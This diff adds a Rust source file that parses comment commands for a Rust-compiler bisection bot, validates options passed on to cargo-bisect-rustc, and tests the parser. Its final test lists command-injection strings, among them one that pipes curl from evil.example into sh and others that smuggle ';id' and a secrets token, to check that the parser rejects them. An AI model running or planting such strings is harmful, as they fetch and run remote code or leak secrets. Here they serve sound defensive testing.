@@ -0,0 +1,779 @@
+use std::fmt;
+
+use crate::{ReplyTo, BOT_NAME};
+
+/// An error in a bot command, pointing at the offending part of the command line if possible.
+#[derive(Debug, PartialEq)]
+pub(crate) struct ParseError {
+    message: String,
+    /// The command line and the 1-based column of the offending token.
+    location: Option<(String, usize)>,
+}
+
+impl ParseError {
+    fn new(message: impl Into<String>) -> Self {
+        ParseError {
+            message: message.into(),
+            location: None,
+        }
+    }
+
+    fn at(line: &str, column: usize, message: impl Into<String>) -> Self {
+        ParseError {
+            message: message.into(),
+            location: Some((line.to_string(), column)),
+        }
+    }
+}
+
+impl fmt::Display for ParseError {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self.location {
+            Some((ref line, column)) => {
+                // Only echo the arguments. Echoing the bot name would turn the reply into a
+                // command itself.
+                let args = line.trim_start().strip_prefix(BOT_NAME).unwrap_or(line);
+                let skipped = line[..line.len() - args.len()].chars().count();
+                write!(
+                    f,
+                    "{} at column {}\n```text\n{}\n{:>width$}\n```",
+                    self.message, column, args, "^", width = column.saturating_sub(skipped).max(1),
+                )
+            }
+            None => write!(f, "{}", self.message),
+        }
+    }
+}
+
+impl std::error::Error for ParseError {}
+
+#[derive(Debug, PartialEq)]
+enum TokenKind {
+    Word(String),
+    Equals,
+}
+
+#[derive(Debug, PartialEq)]
+struct Token {
+    kind: TokenKind,
+    /// 1-based column of the first character of the token.
+    column: usize,
+}
+
+/// Split a command line into words and `=` signs. Words may be quoted with `"` or `'` to include
+/// whitespace or `=`. Inside double quotes a backslash escapes the next character.
+fn tokenize(line: &str, start: usize) -> Result<Vec<Token>, ParseError> {
+    let mut tokens = Vec::new();
+    let mut chars = line.char_indices().skip_while(|&(i, _)| i < start).peekable();
+    let column_of = |i: usize| line[..i].chars().count() + 1;
+
+    while let Some(&(i, c)) = chars.peek() {
+        if c.is_whitespace() {
+            chars.next();
+            continue;
+        }
+        if c == '=' {
+            chars.next();
+            tokens.push(Token { kind: TokenKind::Equals, column: column_of(i) });
+            continue;
+        }
+
+        let mut word = String::new();
+        while let Some(&(j, c)) = chars.peek() {
+            match c {
+                c if c.is_whitespace() || c == '=' => break,
+                '"' | '\'' => {
+                    let quote = c;
+                    chars.next();
+                    loop {
+                        match chars.next() {
+                            Some((_, c)) if c == quote => break,
+                            Some((_, '\\')) if quote == '"' => match chars.next() {
+                                Some((_, c)) => word.push(c),
+                                None => return Err(ParseError::at(line, column_of(j), "unterminated quote")),
+                            },
+                            Some((_, c)) => word.push(c),
+                            None => return Err(ParseError::at(line, column_of(j), "unterminated quote")),
+                        }
+                    }
+                }
+                c => {
+                    chars.next();
+                    word.push(c);
+                }
+            }
+        }
+        tokens.push(Token { kind: TokenKind::Word(word), column: column_of(i) });
+    }
+
+    Ok(tokens)
+}
+
+/// A single argument of a bot command.
+#[derive(Debug, PartialEq)]
+enum Arg {
+    /// `--name`
+    Flag { name: String, column: usize },
+    /// `key=value`, `key = value` or `--key=value`. Keys are lowercased.
+    Option { key: String, value: String, column: usize },
+    /// Any other word.
+    Positional { value: String, column: usize },
+}
+
+fn parse_args(line: &str, tokens: Vec<Token>) -> Result<Vec<Arg>, ParseError> {
+    let mut args = Vec::new();
+    let mut tokens = tokens.into_iter().peekable();
+    while let Some(token) = tokens.next() {
+        let word = match token.kind {
+            TokenKind::Word(word) => word,
+            TokenKind::Equals => return Err(ParseError::at(line, token.column, "expected a key before `=`")),
+        };
+        if let Some(Token { kind: TokenKind::Equals, column }) = tokens.peek() {
+            let equals_column = *column;
+            tokens.next();
+            let value = match tokens.next() {
+                Some(Token { kind: TokenKind::Word(value), .. }) => value,
+                Some(Token { kind: TokenKind::Equals, column }) => {
+                    return Err(ParseError::at(line, column, "expected a value after `=`"));
+                }
+                None => return Err(ParseError::at(line, equals_column, "expected a value after `=`")),
+            };
+            let key = word.trim_start_matches("--").to_lowercase();
+            if key.is_empty() {
+                return Err(ParseError::at(line, token.column, "expected a key before `=`"));
+            }
+            args.push(Arg::Option { key, value, column: token.column });
+        } else if let Some(name) = word.strip_prefix("--") {
+            if name.is_empty() {
+                return Err(ParseError::at(line, token.column, "expected a flag name after `--`"));
+            }
+            args.push(Arg::Flag { name: name.to_lowercase(), column: token.column });
+        } else {
+            args.push(Arg::Positional { value: word, column: token.column });
+        }
+    }
+    Ok(args)
+}
+
+/// What cargo-bisect-rustc should consider a regression.
+#[derive(Debug, Clone, Copy, PartialEq, serde::Serialize, serde::Deserialize)]
+#[serde(rename_all = "kebab-case")]
+pub(crate) enum Regress {
+    Error,
+    Success,
+    Ice,
+    NonIce,
+    NonError,
+}
+
+impl Regress {
+    fn parse(value: &str) -> Option<Self> {
+        match &*value.to_lowercase() {
+            "error" => Some(Regress::Error),
+            "success" => Some(Regress::Success),
+            "ice" => Some(Regress::Ice),
+            "non-ice" => Some(Regress::NonIce),
+            "non-error" => Some(Regress::NonError),
+            _ => None,
+        }
+    }
+
+    fn as_str(self) -> &'static str {
+        match self {
+            Regress::Error => "error",
+            Regress::Success => "success",
+            Regress::Ice => "ice",
+            Regress::NonIce => "non-ice",
+            Regress::NonError => "non-error",
+        }
+    }
+}
+
+/// A toolchain accepted as `start` or `end` of the bisection range.
+///
+/// These are strictly validated as they end up on the command line of cargo-bisect-rustc.
+#[derive(Debug, Clone, PartialEq)]
+pub(crate) enum ToolchainSpec {
+    /// A nightly date like `2020-01-01` or `nightly-2020-01-01`.
+    Date(chrono::NaiveDate),
+    /// A (possibly abbreviated) commit hash of rust-lang/rust.
+    Commit(String),
+    /// A release version like `1.43.0`.
+    Version(String),
+    /// `stable`, `beta` or `nightly`.
+    Channel(&'static str),
+}
+
+impl ToolchainSpec {
+    pub(crate) fn parse(value: &str) -> Option<Self> {
+        let date = value.strip_prefix("nightly-").unwrap_or(value);
+        let is_date_shaped = date.len() == 10
+            && date.char_indices().all(|(i, c)| if i == 4 || i == 7 { c == '-' } else { c.is_ascii_digit() });
+        if is_date_shaped {
+            return chrono::NaiveDate::parse_from_str(date, "%Y-%m-%d").ok().map(ToolchainSpec::Date);
+        }
+
+        if (7..=40).contains(&value.len()) && value.chars().all(|c| c.is_ascii_hexdigit()) {
+            return Some(ToolchainSpec::Commit(value.to_ascii_lowercase()));
+        }
+
+        let parts = value.split('.').collect::<Vec<_>>();
+        if parts.len() == 3 && parts.iter().all(|part| !part.is_empty() && part.len() <= 4 && part.chars().all(|c| c.is_ascii_digit())) {
+            return Some(ToolchainSpec::Version(value.to_string()));
+        }
+
+        ["stable", "beta", "nightly"].iter().find(|&&channel| channel == value).map(|&channel| ToolchainSpec::Channel(channel))
+    }
+}
+
+impl fmt::Display for ToolchainSpec {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            ToolchainSpec::Date(date) => write!(f, "{}", date.format("%Y-%m-%d")),
+            ToolchainSpec::Commit(sha) => write!(f, "{}", sha),
+            ToolchainSpec::Version(version) => write!(f, "{}", version),
+            ToolchainSpec::Channel(channel) => write!(f, "{}", channel),
+        }
+    }
+}
+
+impl serde::Serialize for ToolchainSpec {
+    fn serialize<S: serde::Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
+        serializer.collect_str(self)
+    }
+}
+
+impl<'de> serde::Deserialize<'de> for ToolchainSpec {
+    fn deserialize<D: serde::Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
+        let value = String::deserialize(deserializer)?;
+        ToolchainSpec::parse(&value).ok_or_else(|| serde::de::Error::custom(format!("invalid toolchain `{}`", value)))
+    }
+}
+
+/// The cargo-bisect-rustc options a bisection can be started with.
+#[derive(Debug, Clone, Default, PartialEq, serde::Serialize, serde::Deserialize)]
+#[serde(default)]
+pub(crate) struct BisectOptions {
+    pub(crate) start: Option<ToolchainSpec>,
+    pub(crate) end: Option<ToolchainSpec>,
+    pub(crate) preserve: bool,
+    pub(crate) regress: Option<Regress>,
+    pub(crate) target: Option<String>,
+    pub(crate) host: Option<String>,
+    pub(crate) by_commit: bool,
+    pub(crate) alt: bool,
+    pub(crate) with_cargo: bool,
+    pub(crate) with_src: bool,
+    pub(crate) components: Vec<String>,
+    /// Timeout in seconds for a single test of a toolchain.
+    pub(crate) timeout: Option<u64>,
+}
+
+/// Whether `value` only contains characters that can appear in a target triple or component name.
+fn is_identifier(value: &str) -> bool {
+    !value.is_empty() && value.chars().all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_' || c == '.')
+}
+
+impl BisectOptions {
+    fn from_args(line: &str, args: Vec<Arg>) -> Result<Self, ParseError> {
+        let mut options = BisectOptions::default();
+        for arg in args {
+            match arg {
+                Arg::Option { key, value, column } => {
+                    let set_once = |slot: &mut Option<String>, what: &str| {
+                        if slot.is_some() {
+                            return Err(ParseError::at(line, column, format!("{} specified twice", what)));
+                        }
+                        *slot = Some(value.clone());
+                        Ok(())
+                    };
+                    let check_identifier = |what: &str| {
+                        if is_identifier(&value) {
+                            Ok(())
+                        } else {
+                            Err(ParseError::at(line, column, format!("invalid {} `{}`", what, value)))
+                        }
+                    };
+                    match &*key.replace('_', "-") {
+                        "start" | "end" => {
+                            let range = if key == "start" { &mut options.start } else { &mut options.end };
+                            if range.is_some() {
+                                return Err(ParseError::at(line, column, format!("{} range specified twice", key)));
+                            }
+                            *range = Some(ToolchainSpec::parse(&value).ok_or_else(|| ParseError::at(
+                                line,
+                                column,
+                                format!(
+                                    "invalid {} `{}`, expected a date (YYYY-MM-DD), a commit hash, a version number or a channel name",
+                                    key, value,
+                                ),
+                            ))?);
+                        }
+                        "regress" => {
+                            if options.regress.is_some() {
+                                return Err(ParseError::at(line, column, "regress specified twice"));
+                            }
+                            options.regress = Some(Regress::parse(&value).ok_or_else(|| ParseError::at(
+                                line,
+                                column,
+                                format!("invalid regress `{}`, expected one of error, success, ice, non-ice or non-error", value),
+                            ))?);
+                        }
+                        "target" => {
+                            check_identifier("target")?;
+                            set_once(&mut options.target, "target")?;
+                        }
+                        "host" => {
+                            check_identifier("host")?;
+                            set_once(&mut options.host, "host")?;
+                        }
+                        "component" => {
+                            check_identifier("component")?;
+                            options.components.push(value);
+                        }
+                        "timeout" => {
+                            if options.timeout.is_some() {
+                                return Err(ParseError::at(line, column, "timeout specified twice"));
+                            }
+                            match value.parse() {
+                                Ok(timeout) if timeout > 0 => options.timeout = Some(timeout),
+                                _ => return Err(ParseError::at(
+                                    line,
+                                    column,
+                                    format!("invalid timeout `{}`, expected a number of seconds", value),
+                                )),
+                            }
+                        }
+                        _ => return Err(ParseError::at(line, column, format!("unknown option `{}`", key))),
+                    }
+                }
+                Arg::Flag { name, column } => match &*name.replace('_', "-") {
+                    "preserve" => options.preserve = true,
+                    "by-commit" => options.by_commit = true,
+                    "alt" => options.alt = true,
+                    "with-cargo" => options.with_cargo = true,
+                    "with-src" => options.with_src = true,
+                    _ => return Err(ParseError::at(line, column, format!("unknown flag `--{}`", name))),
+                },
+                Arg::Positional { value, column } => {
+                    return Err(ParseError::at(line, column, format!("unexpected argument `{}`", value)));
+                }
+            }
+        }
+        if options.end.is_none() {
+            return Err(ParseError::new("missing end range"));
+        }
+        Ok(options)
+    }
+
+    /// The arguments to pass to cargo-bisect-rustc.
+    pub(crate) fn to_args(&self) -> Vec<String> {
+        let mut args = Vec::new();
+        if let Some(start) = &self.start {
+            args.push(format!("--start={}", start));
+        }
+        if let Some(end) = &self.end {
+            args.push(format!("--end={}", end));
+        }
+        if self.preserve {
+            args.push("--preserve".to_string());
+        }
+        if let Some(regress) = self.regress {
+            args.push(format!("--regress={}", regress.as_str()));
+        }
+        if let Some(target) = &self.target {
+            args.push(format!("--target={}", target));
+        }
+        if let Some(host) = &self.host {
+            args.push(format!("--host={}", host));
+        }
+        if self.by_commit {
+            args.push("--by-commit".to_string());
+        }
+        if self.alt {
+            args.push("--alt".to_string());
+        }
+        if self.with_cargo {
+            args.push("--with-cargo".to_string());
+        }
+        if self.with_src {
+            args.push("--with-src".to_string());
+        }
+        for component in &self.components {
+            args.push(format!("--component={}", component));
+        }
+        if let Some(timeout) = self.timeout {
+            args.push(format!("--timeout={}", timeout));
+        }
+        args
+    }
+}
+
+/// The most `notify=` options a bisection may have, so the bot can't be used to spam issues.
+const MAX_NOTIFY: usize = 5;
+
+/// Take the `notify=owner/repo#123` options out of the arguments of a bisect command.
+fn take_notify(line: &str, args: Vec<Arg>) -> Result<(Vec<ReplyTo>, Vec<Arg>), ParseError> {
+    let mut notify = Vec::new();
+    let mut rest = Vec::new();
+    for arg in args {
+        match arg {
+            Arg::Option { key, value, column } if key == "notify" => {
+                let target = parse_issue(&value).ok_or_else(|| ParseError::at(
+                    line,
+                    column,
+                    format!("invalid notify `{}`, expected an issue like `rust-lang/rust#12345`", value),
+                ))?;
+                if notify.contains(&target) {
+                    continue;
+                }
+                if notify.len() == MAX_NOTIFY {
+                    return Err(ParseError::at(line, column, format!("at most {} issues can be notified", MAX_NOTIFY)));
+                }
+                notify.push(target);
+            }
+            arg => rest.push(arg),
+        }
+    }
+    Ok((notify, rest))
+}
+
+/// Parse a GitHub issue like `rust-lang/rust#12345`.
+fn parse_issue(value: &str) -> Option<ReplyTo> {
+    let (repo, issue_number) = value.split_once('#')?;
+    let (owner, name) = repo.split_once('/')?;
+    if !is_identifier(owner) || !is_identifier(name) || !issue_number.chars().all(|c| c.is_ascii_digit()) {
+        return None;
+    }
+    Some(ReplyTo::Github {
+        repo: repo.to_string(),
+        issue_number: issue_number.parse().ok().filter(|&issue_number| issue_number > 0)?,
+    })
+}
+
+/// Take the contents of the next code block opened with one of `langs`.
+fn code_block<'a>(lines: &mut impl Iterator<Item = &'a str>, langs: &[&str]) -> Option<String> {
+    loop {
+        match lines.next() {
+            Some(line) if line.trim().strip_prefix("```").is_some_and(|lang| langs.contains(&lang)) => break,
+            Some(_) => {}
+            None => return None,
+        }
+    }
+    Some(lines.take_while(|line| line.trim() != "```").collect::<Vec<_>>().join("\n"))
+}
+
+#[allow(clippy::large_enum_variant)] // Commands are short-lived
+#[derive(Debug, PartialEq)]
+pub(crate) enum Command {
+    Bisect {
+        options: BisectOptions,
+        /// Other threads to report the status of the job to.
+        notify: Vec<ReplyTo>,
+        code: String,
+        /// Script to run instead of `cargo build`, passed as `--script`.
+        script: Option<String>,
+    },
+    /// Report the jobs started from the current issue or topic.
+    Status,
+    /// List all queued and running jobs.
+    Queue,
+    /// Stop a job, by default the last active job of the current issue or topic.
+    Cancel {
+        job_id: Option<String>,
+    },
+    /// Run a job again, by default the last job of the current issue or topic.
+    Retry {
+        job_id: Option<String>,
+    },
+    /// Report the status of a job to the current issue or topic too.
+    Subscribe {
+        job_id: String,
+    },
+}
+
+/// Parse the arguments of a command taking an optional job id.
+fn optional_job_id(line: &str, mut args: Vec<Arg>) -> Result<Option<String>, ParseError> {
+    let job_id = match args.first() {
+        Some(Arg::Positional { value, .. }) => Some(value.clone()),
+        _ => None,
+    };
+    if job_id.is_some() {
+        args.remove(0);
+    }
+    expect_no_args(line, args)?;
+    Ok(job_id)
+}
+
+fn expect_no_args(line: &str, args: Vec<Arg>) -> Result<(), ParseError> {
+    match args.into_iter().next() {
+        None => Ok(()),
+        Some(Arg::Flag { name, column }) => Err(ParseError::at(line, column, format!("unknown flag `--{}`", name))),
+        Some(Arg::Option { key, column, .. }) => Err(ParseError::at(line, column, format!("unknown option `{}`", key))),
+        Some(Arg::Positional { value, column }) => Err(ParseError::at(line, column, format!("unexpected argument `{}`", value))),
+    }
+}
+
+impl Command {
+    pub(crate) fn parse_comment(comment: &str) -> Result<Option<Command>, ParseError> {
+        let mut lines = comment.lines();
+        while let Some(line) = lines.next() {
+            let start = match line.trim_start().strip_prefix(BOT_NAME) {
+                Some(_) => line.len() - line.trim_start().len() + BOT_NAME.len(),
+                None => continue,
+            };
+            let line = line.trim_end();
+            let mut tokens = tokenize(line, start)?.into_iter();
+
+            let (cmd, column) = match tokens.next() {
+                Some(Token { kind: TokenKind::Word(cmd), column }) => (cmd.to_lowercase(), column),
+                Some(Token { column, .. }) => return Err(ParseError::at(line, column, "expected a command")),
+                None => return Err(ParseError::new("missing command")),
+            };
+            let args = parse_args(line, tokens.collect())?;
+
+            match &*cmd {
+                "bisect" => {
+                    let (notify, args) = take_notify(line, args)?;
+                    let options = BisectOptions::from_args(line, args)?;
+                    let code = code_block(&mut lines, &["rust"]).ok_or_else(|| ParseError::new("didn't find repro code"))?;
+                    let script = code_block(&mut lines, &["sh", "bash"]);
+                    return Ok(Some(Command::Bisect {
+                        options,
+                        notify,
+                        code,
+                        script,
+                    }));
+                }
+                "status" => {
+                    expect_no_args(line, args)?;
+                    return Ok(Some(Command::Status));
+                }
+                "queue" => {
+                    expect_no_args(line, args)?;
+                    return Ok(Some(Command::Queue));
+                }
+                "cancel" => {
+                    return Ok(Some(Command::Cancel { job_id: optional_job_id(line, args)? }));
+                }
+                "retry" => {
+                    return Ok(Some(Command::Retry { job_id: optional_job_id(line, args)? }));
+                }
+                "subscribe" => {
+                    let job_id = optional_job_id(line, args)?.ok_or_else(|| ParseError::new("missing job to subscribe to"))?;
+                    return Ok(Some(Command::Subscribe { job_id }));
+                }
+                _ => {
+                    return Err(ParseError::at(line, column, format!("unknown command `{}`", cmd)));
+                }
+            }
+        }
+
+        Ok(None)
+    }
+}
+
+#[test]
+fn test_tokenize() {
+    let words = |line: &str| {
+        tokenize(line, 0).unwrap().into_iter().map(|token| match token.kind {
+            TokenKind::Word(word) => word,
+            TokenKind::Equals => "=".to_string(),
+        }).collect::<Vec<_>>()
+    };
+    assert_eq!(words("bisect  start = 2020-01-01"), ["bisect", "start", "=", "2020-01-01"]);
+    assert_eq!(words("a=\"b c\" d='e=f'"), ["a", "=", "b c", "d", "=", "e=f"]);
+    assert_eq!(words(r#"a="\"b\\""#), ["a", "=", "\"b\\"]);
+    assert_eq!(words("x=\"\""), ["x", "=", ""]);
+    assert_eq!(
+        tokenize("a = 'b", 0),
+        Err(ParseError::at("a = 'b", 5, "unterminated quote")),
+    );
+}
+
+#[test]
+fn test_parse_args() {
+    let args = |line: &str| parse_args(line, tokenize(line, 0).unwrap());
+    assert_eq!(
+        args("START = 1 --Preserve --end=2 x x").unwrap(),
+        [
+            Arg::Option { key: "start".to_string(), value: "1".to_string(), column: 1 },
+            Arg::Flag { name: "preserve".to_string(), column: 11 },
+            Arg::Option { key: "end".to_string(), value: "2".to_string(), column: 22 },
+            Arg::Positional { value: "x".to_string(), column: 30 },
+            Arg::Positional { value: "x".to_string(), column: 32 },
+        ],
+    );
+    assert_eq!(args("a ="), Err(ParseError::at("a =", 3, "expected a value after `=`")));
+    assert_eq!(args("= a"), Err(ParseError::at("= a", 1, "expected a key before `=`")));
+    assert_eq!(args("a = = b"), Err(ParseError::at("a = = b", 5, "expected a value after `=`")));
+}
+
+#[test]
+fn test_parse_bisect_command() {
+    let comment = "please bisect this\n  bisect-bot BISECT  start = \"2020-01-01\" end=2020-02-01 --preserve\n```rust\nfn main() {}\n```";
+    match Command::parse_comment(comment) {
+        Ok(Some(Command::Bisect { options, notify, code, script })) => {
+            assert_eq!(notify, []);
+            assert_eq!(options.start, Some(ToolchainSpec::Date(chrono::NaiveDate::from_ymd_opt(2020, 1, 1).unwrap())));
+            assert_eq!(options.end, Some(ToolchainSpec::Date(chrono::NaiveDate::from_ymd_opt(2020, 2, 1).unwrap())));
+            assert!(options.preserve);
+            assert_eq!(code, "fn main() {}");
+            assert_eq!(script, None);
+        }
+        _ => panic!("failed to parse bisect command"),
+    }
+
+    assert!(Command::parse_comment("no command here").unwrap().is_none());
+
+    let err = Command::parse_comment("bisect-bot bisect end=beta end=stable").err().unwrap();
+    assert_eq!(err, ParseError::at("bisect-bot bisect end=beta end=stable", 28, "end range specified twice"));
+    assert_eq!(
+        err.to_string(),
+        "end range specified twice at column 28\n```text\nbisect end=beta end=stable\n                ^\n```",
+    );
+    assert_eq!(Command::parse_comment(&format!("Error: {}", err)), Ok(None));
+
+    let err = Command::parse_comment("bisect-bot bisect end=beta --frobnicate").err().unwrap();
+    assert_eq!(err, ParseError::at("bisect-bot bisect end=beta --frobnicate", 28, "unknown flag `--frobnicate`"));
+    let err = Command::parse_comment("bisect-bot bisect start=beta").err().unwrap();
+    assert_eq!(err, ParseError::new("missing end range"));
+}
+
+#[test]
+fn test_parse_job_commands() {
+    assert_eq!(Command::parse_comment("did it start?\nbisect-bot status").unwrap(), Some(Command::Status));
+    assert_eq!(Command::parse_comment("bisect-bot Queue").unwrap(), Some(Command::Queue));
+    assert_eq!(
+        Command::parse_comment("bisect-bot queue --all"),
+        Err(ParseError::at("bisect-bot queue --all", 18, "unknown flag `--all`")),
+    );
+    assert_eq!(Command::parse_comment("bisect-bot cancel").unwrap(), Some(Command::Cancel { job_id: None }));
+    assert_eq!(
+        Command::parse_comment("bisect-bot cancel gh123").unwrap(),
+        Some(Command::Cancel { job_id: Some("gh123".to_string()) }),
+    );
+    assert_eq!(
+        Command::parse_comment("bisect-bot cancel gh1 gh2"),
+        Err(ParseError::at("bisect-bot cancel gh1 gh2", 23, "unexpected argument `gh2`")),
+    );
+    assert_eq!(
+        Command::parse_comment("bisect-bot retry gh123-2").unwrap(),
+        Some(Command::Retry { job_id: Some("gh123-2".to_string()) }),
+    );
+    assert_eq!(
+        Command::parse_comment("bisect-bot subscribe zulip123").unwrap(),
+        Some(Command::Subscribe { job_id: "zulip123".to_string() }),
+    );
+    assert_eq!(Command::parse_comment("bisect-bot subscribe"), Err(ParseError::new("missing job to subscribe to")));
+}
+
+#[test]
+fn test_parse_notify() {
+    let comment = "bisect-bot bisect notify=rust-lang/rust#12345 end=2020-02-01 notify=a/b#1 notify=a/b#1\n\
+        ```rust\nfn main() {}\n```";
+    match Command::parse_comment(comment) {
+        Ok(Some(Command::Bisect { notify, options, .. })) => {
+            assert_eq!(
+                notify,
+                [
+                    ReplyTo::Github { repo: "rust-lang/rust".to_string(), issue_number: 12345 },
+                    ReplyTo::Github { repo: "a/b".to_string(), issue_number: 1 },
+                ],
+            );
+            assert_eq!(options.to_args(), ["--end=2020-02-01"]);
+        }
+        _ => panic!("failed to parse bisect command"),
+    }
+
+    for target in &["rust-lang/rust", "rust#1", "a/b/c#1", "a/b#0", "a/b#+1", "a/b#1#2", "a b/c#1"] {
+        let line = format!("bisect-bot bisect end=2020-02-01 notify=\"{}\"", target);
+        assert_eq!(
+            Command::parse_comment(&line),
+            Err(ParseError::at(&line, 34, format!("invalid notify `{}`, expected an issue like `rust-lang/rust#12345`", target))),
+        );
+    }
+    let line = "bisect-bot bisect end=2020-02-01 notify=a/b#1 notify=a/b#2 notify=a/b#3 notify=a/b#4 notify=a/b#5 notify=a/b#6";
+    assert_eq!(Command::parse_comment(line), Err(ParseError::at(line, 99, "at most 5 issues can be notified")));
+}
+
+#[test]
+fn test_parse_bisect_options() {
+    let comment = "bisect-bot bisect end=2020-02-01 regress=ICE --by-commit --alt --with-cargo --with_src \
+        target=x86_64-pc-windows-gnu host = i686-unknown-linux-gnu component=rust-src component=rustfmt timeout=60\n\
+        ```rust\nfn main() {}\n```\n```sh\ncargo check 2>&1 | grep E0308\n```";
+    match Command::parse_comment(comment) {
+        Ok(Some(Command::Bisect { options, script, .. })) => {
+            assert_eq!(
+                options.to_args(),
+                [
+                    "--end=2020-02-01",
+                    "--regress=ice",
+                    "--target=x86_64-pc-windows-gnu",
+                    "--host=i686-unknown-linux-gnu",
+                    "--by-commit",
+                    "--alt",
+                    "--with-cargo",
+                    "--with-src",
+                    "--component=rust-src",
+                    "--component=rustfmt",
+                    "--timeout=60",
+                ],
+            );
+            assert_eq!(script.as_deref(), Some("cargo check 2>&1 | grep E0308"));
+        }
+        _ => panic!("failed to parse bisect command"),
+    }
+
+    let err = |line: &str| Command::parse_comment(line).err().unwrap();
+    assert_eq!(
+        err("bisect-bot bisect end=1.43.0 regress=crash"),
+        ParseError::at(
+            "bisect-bot bisect end=1.43.0 regress=crash",
+            30,
+            "invalid regress `crash`, expected one of error, success, ice, non-ice or non-error",
+        ),
+    );
+    assert_eq!(
+        err("bisect-bot bisect end=1.43.0 target=\"x86_64 linux\""),
+        ParseError::at("bisect-bot bisect end=1.43.0 target=\"x86_64 linux\"", 30, "invalid target `x86_64 linux`"),
+    );
+    assert_eq!(
+        err("bisect-bot bisect end=1.43.0 timeout=0"),
+        ParseError::at("bisect-bot bisect end=1.43.0 timeout=0", 30, "invalid timeout `0`, expected a number of seconds"),
+    );
+}
+
+#[test]
+fn test_toolchain_spec() {
+    let spec = |value: &str| ToolchainSpec::parse(value).map(|spec| spec.to_string());
+    assert_eq!(spec("2020-01-01").as_deref(), Some("2020-01-01"));
+    assert_eq!(spec("nightly-2020-01-01").as_deref(), Some("2020-01-01"));
+    assert_eq!(spec("2020-02-30"), None);
+    assert_eq!(spec("2020-1-1"), None);
+    assert_eq!(spec("B3F8a5c").as_deref(), Some("b3f8a5c"));
+    assert_eq!(spec("0123456789abcdef0123456789abcdef01234567").as_deref(), Some("0123456789abcdef0123456789abcdef01234567"));
+    assert_eq!(spec("0123456789abcdef0123456789abcdef012345678"), None);
+    assert_eq!(spec("abc"), None);
+    assert_eq!(spec("1.43.0").as_deref(), Some("1.43.0"));
+    assert_eq!(spec("1.43"), None);
+    assert_eq!(spec("beta").as_deref(), Some("beta"));
+}
+
+#[test]
+fn test_hostile_ranges() {
+    for hostile in &[
+        r#"end="2020-01-01\" && curl https://evil.example | sh && echo \"""#,
+        "end='$(curl https://evil.example | sh)'",
+        "end=`id`",
+        "end=\"2020-01-01 --script=/bin/sh\"",
+        "end=\"2020-01-01;id\"",
+        "end=--script=/bin/sh",
+        "end=2020-01-01 start=\"${{ secrets.GITHUB_TOKEN }}\"",
+        "end=2020-01-01 target=\"x86_64-unknown-linux-gnu; id\"",
+        "end=2020-01-01 component='rust-src\" run: id'",
+    ] {
+        let comment = format!("bisect-bot bisect {}\n```rust\nfn main() {{}}\n```", hostile);
+        assert!(Command::parse_comment(&comment).is_err(), "accepted {}", hostile);
+    }
+}